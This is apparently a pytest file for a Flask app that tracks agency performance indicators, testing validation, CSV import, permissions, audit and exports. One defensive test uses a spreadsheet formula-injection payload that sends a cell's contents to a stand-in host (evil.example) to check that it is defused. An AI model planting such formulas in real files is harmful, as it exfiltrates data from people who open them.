"""Performance indicators: create, edit, values by hand and by CSV, trend chart, permissions, audit, exports."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from core.models import Agency, AuditEvent, Indicator, IndicatorValue, Theme
from core.services.themes import install_themes
from tests.factories import make_agency

NOW = dt.datetime(2026, 11, 27, 10, 30, tzinfo=dt.timezone.utc)


def events(db: Session, action: str) -> list[AuditEvent]:
    return list(db.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)))


def indicators(db: Session) -> list[Indicator]:
    db.expire_all()
    return list(db.scalars(select(Indicator).order_by(Indicator.id)))


def values(db: Session) -> dict[str, float]:
    db.expire_all()
    return {v.period: v.value for v in db.scalars(select(IndicatorValue).order_by(IndicatorValue.period_start))}


def make_indicator(db: Session, agency: Agency, **kw: Any) -> Indicator:
    defaults: dict[str, Any] = dict(
        code="CSC-03",
        name="Child protection visits in time",
        unit="%",
        direction="higher_better",
        target=90.0,
        frequency="quarterly",
        agency_id=agency.id,
    )
    defaults.update(kw)
    indicator = Indicator(**defaults)
    db.add(indicator)
    db.commit()
    return indicator


def add_value(db: Session, indicator: Indicator, period: str, start: dt.date, value: float, **kw: Any) -> None:
    db.add(
        IndicatorValue(indicator_id=indicator.id, period=period, period_start=start, value=value, entered_at=NOW, **kw)
    )
    db.commit()


def form(agency: Agency, **overrides: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "code": "POL-01",
        "name": "Domestic abuse notifications shared within 24 hours",
        "description": "",
        "unit": "%",
        "direction": "higher_better",
        "target": "95",
        "frequency": "quarterly",
        "agency_id": str(agency.id),
    }
    data.update(overrides)
    return data


def test_staff_add_an_indicator_with_themes_and_it_is_audit_logged(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    install_themes(db)
    db.commit()
    police = make_agency(db, "Police")
    themes = {t.code: t for t in db.scalars(select(Theme))}
    user = auth.login("staff")
    response = admin_client.post(
        "/indicators/new",
        data=form(police, themes=[str(themes["domestic_abuse"].id), str(themes["information_sharing"].id)]),
    )
    assert response.status_code == 302
    [indicator] = indicators(db)
    assert (indicator.code, indicator.target, indicator.active) == ("POL-01", 95.0, True)
    assert sorted(t.code for t in indicator.themes) == ["domestic_abuse", "information_sharing"]
    [event] = events(db, "indicator.create")
    assert event.user_id == user.id
    assert sorted(event.details["changes"]["themes"][1]) == ["domestic_abuse", "information_sharing"]
    listing = admin_client.get(f"/indicators/?theme_id={themes['domestic_abuse'].id}").get_data(as_text=True)
    assert "POL-01" in listing
    other = admin_client.get(f"/indicators/?theme_id={themes['neglect'].id}").get_data(as_text=True)
    assert "POL-01" not in other


@pytest.mark.parametrize(
    "overrides, field, message",
    [
        ({"code": ""}, "code", "Enter the code, like CSC-03"),
        ({"code": "has space"}, "code", "letters, numbers, and - . _"),
        ({"name": ""}, "name", "Enter the name of the indicator"),
        ({"unit": ""}, "unit", "Enter the unit"),
        ({"direction": "sideways"}, "direction", "Select which direction is better from the list"),
        ({"target": "ninety"}, "target", "The target must be a number"),
        ({"frequency": ""}, "frequency", "Select how often it is reported"),
        ({"agency_id": ""}, "agency_id", "Select the agency that reports this indicator"),
        ({"target": "150"}, "target", "150% is not a possible percentage: give a value from 0 to 100"),
        ({"unit": "referrals", "target": "-10"}, "target", "-10 is below zero: a value measured in referrals"),
        ({"themes": ["99999"]}, "themes", "Select themes from the list"),
    ],
)
def test_invalid_indicator_is_refused_and_nothing_written(
    admin_client: FlaskClient, auth: Any, db: Session, overrides: dict[str, Any], field: str, message: str
) -> None:
    police = make_agency(db, "Police")
    auth.login("staff")
    response = admin_client.post("/indicators/new", data=form(police, **overrides))
    assert response.status_code == 400
    text = html.unescape(response.get_data(as_text=True))
    assert f'href="#{field}"' in text and message in text
    assert indicators(db) == [] and events(db, "indicator.create") == []


def test_codes_are_unique_whatever_their_case(admin_client: FlaskClient, auth: Any, db: Session) -> None:
    police = make_agency(db, "Police")
    make_indicator(db, police, code="POL-01")
    auth.login("staff")
    response = admin_client.post("/indicators/new", data=form(police, code="pol-01"))
    assert response.status_code == 400
    assert "There is already an indicator with the code pol-01" in response.get_data(as_text=True)


def test_editing_records_what_changed_and_guards_the_frequency(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    add_value(db, indicator, "2026-Q1", dt.date(2026, 1, 1), 80)
    auth.login("admin")
    data = form(police, code="CSC-03", name=indicator.name, target="92.5", active="yes")
    assert admin_client.post(f"/indicators/{indicator.id}/edit", data=data).status_code == 302
    [event] = events(db, "indicator.update")
    assert event.details["changes"]["target"] == [90.0, 92.5]
    refused = admin_client.post(f"/indicators/{indicator.id}/edit", data=dict(data, frequency="monthly"))
    assert refused.status_code == 400
    assert "This indicator already has values for calendar quarters: it cannot become monthly" in refused.get_data(
        as_text=True
    )
    retire = admin_client.post(
        f"/indicators/{indicator.id}/edit", data={k: v for k, v in data.items() if k != "active"}
    )
    assert retire.status_code == 302 and indicators(db)[0].active is False
    assert "CSC-03" not in admin_client.get("/indicators/").get_data(as_text=True)
    assert "CSC-03" in admin_client.get("/indicators/?show=all").get_data(as_text=True)


def test_values_are_recorded_by_hand_and_a_repeat_period_updates(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    user = auth.login("staff")
    url = f"/indicators/{indicator.id}/values"
    assert admin_client.post(url, data={"period": "Q1 2026", "value": "87.5%"}).status_code == 302
    assert admin_client.post(url, data={"period": "2026-Q2", "value": "91"}).status_code == 302
    assert values(db) == {"2026-Q1": 87.5, "2026-Q2": 91.0}
    admin_client.post(url, data={"period": "2026 Q1", "value": "88", "note": "Corrected"})
    assert values(db)["2026-Q1"] == 88.0
    created = events(db, "indicator_value.create")
    assert [(e.user_id, e.details["period"]) for e in created] == [(user.id, "2026-Q1"), (user.id, "2026-Q2")]
    [updated] = events(db, "indicator_value.update")
    assert updated.details["changes"] == {"value": [87.5, 88.0], "note": ["", "Corrected"]}
    page = admin_client.get(f"/indicators/{indicator.id}").get_data(as_text=True)
    assert 'role="img"' in page and "Trend of CSC-03" in page and "Target 90%" in page
    assert "misses target" in page and "meets target" in page


@pytest.mark.parametrize(
    "data, field, message",
    [
        (
            {"period": "2026-04", "value": "80"},
            "period",
            "2026-04 is a month, but CSC-03 is reported quarterly: give a calendar quarter or a financial quarter",
        ),
        ({"period": "", "value": "80"}, "period", "Enter the period"),
        ({"period": "2026-Q1", "value": "eighty"}, "value", "“eighty” is not a number"),
        ({"period": "2026-Q1", "value": ""}, "value", "Enter a value"),
        ({"period": "2026-Q1", "value": "1", "note": "x" * 501}, "note", "The note must be 500 characters or fewer"),
        ({"period": "2025-Q4", "value": "-5"}, "value", "-5% is not a possible percentage: give a value from 0 to 100"),
        (
            {"period": "2025-Q4", "value": "250"},
            "value",
            "250% is not a possible percentage: give a value from 0 to 100",
        ),
        ({"period": "2025-Q4", "value": "100.1%"}, "value", "100.1% is not a possible percentage"),
        (
            {"period": "2030-Q1", "value": "50"},
            "period",
            "2030-Q1 has not started yet: give a period that starts in November 2026 or earlier",
        ),
        ({"period": "2027-Q1", "value": "50"}, "period", "2027-Q1 has not started yet"),
    ],
)
def test_invalid_values_are_refused_and_nothing_written(
    admin_client: FlaskClient, auth: Any, db: Session, data: dict[str, str], field: str, message: str
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    auth.login("staff")
    response = admin_client.post(f"/indicators/{indicator.id}/values", data=data)
    assert response.status_code == 400
    text = html.unescape(response.get_data(as_text=True))
    assert f'href="#{field}"' in text and message in text
    assert values(db) == {} and events(db, "indicator_value.create") == []


def test_a_percentage_of_0_or_100_and_the_quarter_under_way_are_accepted(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    auth.login("staff")
    url = f"/indicators/{indicator.id}/values"
    assert admin_client.post(url, data={"period": "2026-Q3", "value": "0"}).status_code == 302
    assert admin_client.post(url, data={"period": "2026-Q4", "value": "100%"}).status_code == 302
    assert values(db) == {"2026-Q3": 0.0, "2026-Q4": 100.0}


@pytest.mark.parametrize(
    "value, message",
    [
        ("-1", "-1 is below zero: a value measured in children cannot be negative"),
        ("2.5", "2.5 is not a whole number: this indicator counts people"),
    ],
)
def test_a_count_of_children_is_a_whole_number_not_below_zero(
    admin_client: FlaskClient, auth: Any, db: Session, value: str, message: str
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(
        db,
        police,
        code="POL-07",
        unit="children",
        direction="lower_better",
        target=None,
        frequency="monthly",
        counts_people=True,
    )
    auth.login("staff")
    response = admin_client.post(f"/indicators/{indicator.id}/values", data={"period": "2026-10", "value": value})
    assert response.status_code == 400
    text = html.unescape(response.get_data(as_text=True))
    assert 'href="#value"' in text and message in text
    assert values(db) == {}


def test_changing_a_value_to_an_impossible_one_or_a_future_period_changes_nothing(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    add_value(db, indicator, "2026-Q1", dt.date(2026, 1, 1), 80)
    row = db.scalar(select(IndicatorValue))
    assert row is not None
    auth.login("staff")
    url = f"/indicators/{indicator.id}/values/{row.id}/edit"
    too_big = admin_client.post(url, data={"period": "2026-Q1", "value": "250"})
    assert too_big.status_code == 400 and "250% is not a possible percentage" in too_big.get_data(as_text=True)
    future = admin_client.post(url, data={"period": "2030-Q1", "value": "50"})
    assert future.status_code == 400 and "2030-Q1 has not started yet" in future.get_data(as_text=True)
    assert values(db) == {"2026-Q1": 80.0} and events(db, "indicator_value.update") == []


def test_a_csv_file_with_an_impossible_value_or_a_future_period_imports_nothing(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    make_indicator(db, police)
    auth.login("staff")
    data = "indicator,period,value\nCSC-03,2026-Q1,81\nCSC-03,2025-Q4,250\nCSC-03,2027-Q1,50\n"
    response = admin_client.post(
        "/indicators/import", data={"file": (io.BytesIO(data.encode()), "bad.csv")}, content_type="multipart/form-data"
    )
    assert response.status_code == 400
    text = html.unescape(response.get_data(as_text=True))
    assert "The file was not imported: 2 problems found. Nothing was changed." in text and 'href="#file"' in text
    assert (
        '<td class="govuk-table__cell">3</td><td class="govuk-table__cell">value</td>'
        '<td class="govuk-table__cell">250% is not a possible percentage: give a value from 0 to 100</td>'
    ) in text
    assert (
        '<td class="govuk-table__cell">4</td><td class="govuk-table__cell">period</td>'
        '<td class="govuk-table__cell">2027-Q1 has not started yet: give a period that starts in November 2026 or '
        "earlier</td>"
    ) in text
    # The row number is said once, in the table's Row column, not again in the message.
    assert "Row 3" not in text and "Row 4" not in text
    assert values(db) == {} and events(db, "indicator_values.imported") == []


def test_the_same_quarter_written_another_way_is_refused(admin_client: FlaskClient, auth: Any, db: Session) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    add_value(db, indicator, "2026-Q2", dt.date(2026, 4, 1), 80)
    auth.login("staff")
    response = admin_client.post(f"/indicators/{indicator.id}/values", data={"period": "2026-27 Q1", "value": "81"})
    assert response.status_code == 400
    assert "There is already a value for April to June 2026, written as 2026-Q2" in response.get_data(as_text=True)


def test_a_value_can_be_changed_or_removed(admin_client: FlaskClient, auth: Any, db: Session) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    add_value(db, indicator, "2026-Q1", dt.date(2026, 1, 1), 80)
    add_value(db, indicator, "2026-Q2", dt.date(2026, 4, 1), 82)
    row = db.scalar(select(IndicatorValue).where(IndicatorValue.period == "2026-Q1"))
    assert row is not None
    auth.login("staff")
    url = f"/indicators/{indicator.id}/values/{row.id}/edit"
    clash = admin_client.post(url, data={"period": "2026-Q2", "value": "80"})
    assert clash.status_code == 400 and "There is already a value for 2026-Q2" in clash.get_data(as_text=True)
    admin_client.post(url, data={"period": "2025-Q4", "value": "79.5"})
    assert values(db) == {"2025-Q4": 79.5, "2026-Q2": 82.0}
    [update] = events(db, "indicator_value.update")
    assert update.details["changes"]["period"] == ["2026-Q1", "2025-Q4"]
    admin_client.post(url, data={"delete": "yes"})
    assert values(db) == {"2026-Q2": 82.0}
    assert events(db, "indicator_value.delete")[0].details["changes"]["value"] == [79.5, None]


def test_small_counts_of_people_are_suppressed_in_list_page_chart_and_exports(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(
        db,
        police,
        code="POL-07",
        name="Children missing more than 3 times",
        unit="children",
        direction="lower_better",
        target=None,
        frequency="monthly",
        counts_people=True,
    )
    add_value(db, indicator, "2026-08", dt.date(2026, 8, 1), 12)
    add_value(db, indicator, "2026-09", dt.date(2026, 9, 1), 3)
    auth.login("board")
    listing = admin_client.get("/indicators/").get_data(as_text=True)
    assert "fewer than 5" in listing and "12" in listing
    page = admin_client.get(f"/indicators/{indicator.id}").get_data(as_text=True)
    assert "fewer than 5" in page and ">3<" not in page
    exported = admin_client.get("/indicators/values/export?format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
    assert [(r["Period"], r["Value"]) for r in rows] == [("2026-08", "12"), ("2026-09", "fewer than 5")]
    listed = list(
        csv.DictReader(
            io.StringIO(admin_client.get("/indicators/export?format=csv").get_data(as_text=True).lstrip("\ufeff"))
        )
    )
    assert listed[0]["Latest value"] == "fewer than 5" and listed[0]["Counts people"] == "Yes"


def test_monthly_periods_are_named_on_pages_and_kept_as_written_in_exports(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police, code="POL-08", frequency="monthly", unit="", target=None)
    add_value(db, indicator, "2026-10", dt.date(2026, 10, 1), 40)
    add_value(db, indicator, "2026-11", dt.date(2026, 11, 1), 42)
    auth.login("staff")
    listing = admin_client.get("/indicators/").get_data(as_text=True)
    assert "Nov 2026" in listing and "Oct 2026" in listing and "2026-11" not in listing
    page = admin_client.get(f"/indicators/{indicator.id}").get_data(as_text=True)
    assert "November 2026" in page and "October 2026" in page and "Nov 2026" in page  # table, chart
    assert "2026-11" not in page and "2026-10" not in page
    row = db.scalars(select(IndicatorValue).where(IndicatorValue.period == "2026-11")).one()
    change = admin_client.get(f"/indicators/{indicator.id}/values/{row.id}/edit").get_data(as_text=True)
    assert "Change the value for November 2026" in change
    exported = admin_client.get("/indicators/values/export?format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
    assert [r["Period"] for r in rows] == ["2026-10", "2026-11"]


def test_a_csv_file_is_imported_through_the_page(admin_client: FlaskClient, auth: Any, db: Session) -> None:
    police = make_agency(db, "Police")
    make_indicator(db, police)
    user = auth.login("staff")
    data = '\ufeffindicator,agency,period,value\r\nCSC-03,Police,2026-Q1,81%\r\nCSC-03,Police,2026-Q2,"84.5"\r\n'
    response = admin_client.post(
        "/indicators/import", data={"file": (io.BytesIO(data.encode()), "q.csv")}, content_type="multipart/form-data"
    )
    assert response.status_code == 302
    assert values(db) == {"2026-Q1": 81.0, "2026-Q2": 84.5}
    [event] = events(db, "indicator_values.imported")
    assert (event.user_id, event.details["filename"], event.details["created"]) == (user.id, "q.csv", 2)
    flashed = admin_client.get("/indicators/").get_data(as_text=True)
    assert "q.csv imported: 2 new values, 0 updated, 0 unchanged." in flashed


def test_a_bad_csv_file_lists_its_problems_and_changes_nothing(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    make_indicator(db, police)
    auth.login("staff")
    data = "indicator,period,value\nCSC-03,2026-Q1,81\nCSC-99,2026-Q2,3\nCSC-03,2026-Q3,n/a\n"
    response = admin_client.post(
        "/indicators/import", data={"file": (io.BytesIO(data.encode()), "bad.csv")}, content_type="multipart/form-data"
    )
    assert response.status_code == 400
    text = html.unescape(response.get_data(as_text=True))
    assert "The file was not imported: 2 problems found. Nothing was changed." in text and 'href="#file"' in text
    assert '<td class="govuk-table__cell">There is no indicator with the code or name “CSC-99”' in text
    assert '<td class="govuk-table__cell">4</td><td class="govuk-table__cell">value</td>' in text
    assert '<td class="govuk-table__cell">“n/a” is not a number</td>' in text
    assert "Row 3" not in text and "Row 4" not in text
    assert values(db) == {} and events(db, "indicator_values.imported") == []
    latin = admin_client.post(
        "/indicators/import",
        data={"file": (io.BytesIO(b"indicator,period,value,note\nCSC-03,2026-Q1,1,\xa3\n"), "latin.csv")},
        content_type="multipart/form-data",
    )
    assert latin.status_code == 400 and "is not UTF-8 text" in latin.get_data(as_text=True)
    empty = admin_client.post("/indicators/import", data={}, content_type="multipart/form-data")
    assert empty.status_code == 400 and "Select a CSV file to import" in empty.get_data(as_text=True)


def test_checking_a_file_first_writes_nothing(admin_client: FlaskClient, auth: Any, db: Session) -> None:
    police = make_agency(db, "Police")
    make_indicator(db, police)
    auth.login("staff")
    data = "indicator,period,value\nCSC-03,2026-Q1,81\n"
    response = admin_client.post(
        "/indicators/import",
        data={"file": (io.BytesIO(data.encode()), "q.csv"), "check_only": "yes"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert "q.csv is ready to import" in response.get_data(as_text=True)
    assert values(db) == {} and events(db, "indicator_values.imported") == []


def test_the_import_template_lists_indicators_in_use(admin_client: FlaskClient, auth: Any, db: Session) -> None:
    police = make_agency(db, "Police")
    make_indicator(db, police)
    make_indicator(db, police, code="OLD-1", active=False)
    auth.login("staff")
    text = admin_client.get("/indicators/import/template.csv").get_data(as_text=True)
    assert text.lstrip("\ufeff").splitlines() == ["indicator,agency,period,value,note", "CSC-03,Police,2026-27 Q1,,"]


HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_the_import_template_defuses_a_hostile_agency_name_and_still_imports(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    make_indicator(db, make_agency(db, HOSTILE_AGENCY))
    auth.login("staff")
    text = admin_client.get("/indicators/import/template.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][:2] == ["CSC-03", "'" + HOSTILE_AGENCY]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The template filled in and sent back as it came imports: the defused name still names the agency.
    rows[1][3] = "80"
    filled = io.StringIO()
    csv.writer(filled).writerows(rows)
    response = admin_client.post(
        "/indicators/import",
        data={"file": (io.BytesIO(filled.getvalue().encode()), "template.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    assert values(db) == {"2026-27 Q1": 80.0}


@pytest.mark.parametrize("role", ["board", "partner"])
def test_read_only_users_cannot_change_indicators_or_values(
    admin_client: FlaskClient, auth: Any, db: Session, role: str
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    add_value(db, indicator, "2026-Q1", dt.date(2026, 1, 1), 80)
    row = db.scalar(select(IndicatorValue))
    assert row is not None
    auth.login(role, agency_id=police.id)
    page = admin_client.get(f"/indicators/{indicator.id}").get_data(as_text=True)
    assert "Record a value" not in page and "Change the indicator" not in page
    assert admin_client.post("/indicators/new", data=form(police)).status_code == 403
    assert admin_client.post(f"/indicators/{indicator.id}/edit", data=form(police)).status_code == 403
    assert (
        admin_client.post(f"/indicators/{indicator.id}/values", data={"period": "2026-Q2", "value": "1"}).status_code
        == 403
    )
    assert (
        admin_client.post(f"/indicators/{indicator.id}/values/{row.id}/edit", data={"delete": "yes"}).status_code == 403
    )
    upload = admin_client.post(
        "/indicators/import",
        content_type="multipart/form-data",
        data={"file": (io.BytesIO(b"indicator,period,value\nCSC-03,2026-Q3,1\n"), "x.csv")},
    )
    assert upload.status_code == 403
    assert values(db) == {"2026-Q1": 80.0} and [i.code for i in indicators(db)] == ["CSC-03"]
    assert db.scalar(select(func.count()).select_from(AuditEvent).where(AuditEvent.action.like("indicator%"))) == 0


def test_partner_users_do_not_see_other_agencies_restricted_indicators(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police, health = make_agency(db, "Police"), make_agency(db, "Health Trust")
    mine = make_indicator(db, police, code="POL-09", restricted=True)
    theirs = make_indicator(db, health, code="HLT-09", restricted=True)
    add_value(db, theirs, "2026-Q1", dt.date(2026, 1, 1), 55)
    auth.login("partner", agency_id=police.id)
    listing = admin_client.get("/indicators/").get_data(as_text=True)
    assert "POL-09" in listing and "HLT-09" not in listing
    assert admin_client.get(f"/indicators/{theirs.id}").status_code == 404
    assert admin_client.get(f"/indicators/{mine.id}").status_code == 200
    assert "HLT-09" not in admin_client.get("/indicators/values/export?format=csv").get_data(as_text=True)
    sheet = load_workbook(io.BytesIO(admin_client.get("/indicators/export?format=xlsx").data)).active
    assert sheet is not None
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["Code", "POL-09"]


def test_the_list_shows_latest_and_previous_values_against_target(
    admin_client: FlaskClient, auth: Any, db: Session
) -> None:
    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    for i, (period, value) in enumerate((("2025-Q3", 70), ("2025-Q4", 85), ("2026-Q1", 92))):
        add_value(db, indicator, period, dt.date(2025, 7 + 3 * i, 1) if i < 2 else dt.date(2026, 1, 1), value)
    auth.login("board")
    page = admin_client.get("/indicators/").get_data(as_text=True)
    row = page.split("CSC-03</a>")[1].split("</tr>")[0]
    assert "<strong>92%</strong>" in row and "2026-Q1" in row and "85%" in row and "Meets target" in row
    assert "70%" not in row


def test_a_values_spreadsheet_too_big_to_build_is_refused_with_a_way_round(
    admin_client: FlaskClient, auth: Any, db: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    from core.services import indicators as service

    police = make_agency(db, "Police")
    indicator = make_indicator(db, police)
    add_value(db, indicator, "2026-Q1", dt.date(2026, 1, 1), 80)
    add_value(db, indicator, "2026-Q2", dt.date(2026, 4, 1), 81)
    monkeypatch.setattr(service, "MAX_XLSX_VALUES", 1)  # a setting, not a component: the limit itself
    auth.login("staff")
    response = admin_client.get("/indicators/values/export?format=xlsx")
    assert response.status_code == 400
    assert "That is 2 values: too many for one spreadsheet (at most 1). Download them as CSV" in response.get_data(
        as_text=True
    )
    assert admin_client.get("/indicators/values/export?format=csv").status_code == 200
